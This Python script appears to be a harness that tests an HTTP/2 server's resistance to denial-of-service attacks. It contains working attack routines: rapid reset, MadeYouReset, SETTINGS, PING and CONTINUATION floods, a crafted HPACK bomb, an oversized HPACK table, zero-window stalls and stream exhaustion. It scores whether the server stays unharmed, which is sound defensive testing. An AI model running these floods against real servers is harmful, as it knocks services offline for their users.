#!/usr/bin/python3
"""What a client of HTTP/2 may do to a server: http2.py ADDRESS PID [QUICK [tls]]"""

import sys
import time

from hyperframe.frame import (ContinuationFrame, DataFrame, HeadersFrame, PingFrame, PriorityFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

from frames import CALM, CANCEL, CLOSED, COMPRESSION, PROTOCOL, Client
from victim import Attacks, Others, Victim, end, unharmed

MIB = 1 << 20
BURST = 1000  # of the bucket; 100 a second come to it



def churn(victim, name, one, codes, attacks, most=40 * BURST, grown_max=8 * MIB):
    """one(client, i) gives frames; the server has enough of them before `most`."""
    with Others(victim) as others:
        client = Client(victim)
        begun, n = time.monotonic(), 0
        while n < most and client.say(*one(client, n)):
            n += 1
        client.wait(3)
        time.sleep(0.3)
    took = time.monotonic() - begun
    attacks.row(name, client.goaway in codes or (client.goaway is None and client.over == "reset"),
                f"{client.said()} after {n} in {took:.1f} s", others, grown_max)


def rapid_reset(client, _):
    frame = client.request("/bytes/100000")
    return frame, RstStreamFrame(frame.stream_id, error_code=CANCEL)


def made_you_reset(client, _):
    frame = client.request("/bytes/100000", end=False)
    return frame, WindowUpdateFrame(frame.stream_id, window_increment=1 << 30), \
        WindowUpdateFrame(frame.stream_id, window_increment=(1 << 31) - 1)


def half_closed(client, _):
    frame = client.request("/")
    return frame, DataFrame(frame.stream_id, b"late")


def settings_flood(_, i):
    return (SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535 + i % 2}),)


def ping_flood(_, i):
    return (PingFrame(0, opaque_data=b"%08d" % i),)


def empty_data(client, i):
    if i == 0:
        client.first = client.request("/echo", "POST", end=False)
        return (client.first,)
    return (DataFrame(client.first.stream_id, b""),)


def priorities(_, i):
    return (PriorityFrame(1 + 2 * (i % 50), depends_on=0, stream_weight=i % 256),)


def continuation_flood(victim, attacks):
    """A head that never ends."""
    with Others(victim) as others:
        client = Client(victim)
        first = HeadersFrame(1, data=client.head())
        sent, more = 0, b"".join(b"\x00\x04x-%02d\x7f\x9e\x01" % i + b"y" * 285 for i in range(50))
        client.say(first)
        while sent < 64 * MIB and client.say(ContinuationFrame(1, data=more)):
            sent += len(more)
        client.wait(3)
        time.sleep(0.3)
    attacks.row("CONTINUATION flood", client.enough(), f"{client.said()} after {sent >> 10} KiB",
                others, 4 * MIB)


def empty_continuations(victim, attacks):
    with Others(victim) as others:
        client = Client(victim)
        n = 0
        client.say(HeadersFrame(1, data=client.head()))
        while n < 100000 and client.say(ContinuationFrame(1, data=b"")):
            n += 1
        client.wait(3)
        time.sleep(0.3)
    attacks.row("CONTINUATION, empty ones", client.enough(), f"{client.said()} after {n}", others,
                4 * MIB)


def slow_head(victim, attacks):
    """A head whose end does not come."""
    limit = victim.head_s + 1.5
    with Others(victim) as others:
        clients = [Client(victim) for _ in range(50)]
        for client in clients:
            client.say(HeadersFrame(1, data=client.head()))
        begun = time.monotonic()
        over = sum(client.wait(max(begun + limit - time.monotonic(), 0.1)) for client in clients)
    attacks.row("a head without end", over == len(clients),
                f"{over} of {len(clients)} were given up within {limit:.1f} s", others, 16 * MIB)


def hpack_bomb(victim, attacks):
    """A byte of the block is 4 KB of a header list."""
    refused, streams = 0, 100
    with Others(victim) as others:
        client = Client(victim)
        big = b"\x40\x01a\x7f" + b"\xd9\x1d" + b"x" * 3800
        for _ in range(streams):
            block = client.head() + big + b"\xbe" * 10000
            frame = HeadersFrame(client.next_id, data=block)
            frame.flags.add("END_HEADERS"), frame.flags.add("END_STREAM")
            client.next_id += 2
            if not client.say(frame):
                break
        client.wait(3, lambda: client.enough() or
                    len(set(client.resets) | set(client.answers)) >= streams)
        refused = len(client.resets) + sum(block[:1] != b"\x88"
                                           for block in client.answers.values())
        time.sleep(0.3)
    attacks.row("HPACK bomb", client.enough() or refused == streams,
                f"{client.said()}, {refused} of {streams} refused", others, 8 * MIB)


def hpack_table(victim, attacks):
    """A table larger than was allowed."""
    with Others(victim) as others:
        client = Client(victim)
        frame = HeadersFrame(1, data=b"\x3f\xe1\xff\x03" + client.head())
        frame.flags.add("END_HEADERS"), frame.flags.add("END_STREAM")
        client.say(frame)
        client.wait(3)
        time.sleep(0.2)
    attacks.row("HPACK table of 64 KiB", client.goaway == COMPRESSION, client.said(), others,
                4 * MIB)


def no_window(victim, attacks):
    """Answers that may not be sent, ever."""
    limit, n = 2 * victim.write_s + 3, 100
    with Others(victim) as others:
        client = Client(victim, {SettingsFrame.INITIAL_WINDOW_SIZE: 0})
        client.say(*[client.request("/bytes/10000000") for _ in range(n)])
        client.wait(limit, lambda: client.enough() or len(client.resets) >= n)
    attacks.row("a window of nothing", client.enough() or len(client.resets) == n,
                f"{len(client.resets)} of {n} reset, {client.said()} within {limit:.0f} s", others,
                16 * MIB)


def never_reads(victim, attacks):
    """The windows are open, and nobody reads."""
    limit, n = 2 * victim.write_s + 3, 100
    with Others(victim) as others:
        client = Client(victim, {SettingsFrame.INITIAL_WINDOW_SIZE: (1 << 31) - 1})
        client.say(WindowUpdateFrame(0, window_increment=(1 << 31) - 1 - 65535),
                   *[client.request("/bytes/100000000") for _ in range(n)])
        begun = time.monotonic()
        while time.monotonic() < begun + limit:
            time.sleep(0.2)
        client.wait(5, lambda: client.over)
    attacks.row("nobody reads", client.over is not None,
                f"{client.said()} within {limit:.0f} s, {client.data_bytes >> 20} MiB came", others,
                24 * MIB)


def too_many_streams(victim, attacks):
    n = 1000
    with Others(victim) as others:
        client = Client(victim)
        client.say(*[client.request("/echo", "POST", end=False) for _ in range(n)])
        client.wait(3, lambda: client.enough() or len(client.resets) >= n - 100)
        time.sleep(0.3)
    attacks.row("streams that stay open", client.enough() or len(client.resets) >= n - 100,
                f"{len(client.resets)} of {n} refused, {client.said()}", others, 16 * MIB)


# Which code the GOAWAY has; a stream that is closed may be told so at once, and who opens more of
# them than there may be, before the server could say that it reset some, has broken the protocol.
CHURNS = (("rapid reset", rapid_reset, {CALM}),
          ("MadeYouReset: windows", made_you_reset, {CALM, PROTOCOL}),
          ("MadeYouReset: late data", half_closed, {CALM, CLOSED}),
          ("SETTINGS flood", settings_flood, {CALM}), ("PING flood", ping_flood, {CALM}),
          ("empty DATA flood", empty_data, {CALM}), ("PRIORITY churn", priorities, {CALM}))


def main():
    quick = int(sys.argv[3]) if len(sys.argv) > 3 else 1
    victim = Victim(sys.argv[1], int(sys.argv[2]), tls=sys.argv[4:] == ["tls"], quick=quick)
    attacks = Attacks(p99_ms=100)
    unharmed(victim)
    for name, one, codes in CHURNS:
        churn(victim, name, one, codes, attacks)
    for attack in (continuation_flood, empty_continuations, hpack_bomb, hpack_table,
                   too_many_streams, slow_head, no_window, never_reads):
        attack(victim, attacks)
    end(attacks)


if __name__ == "__main__":
    main()
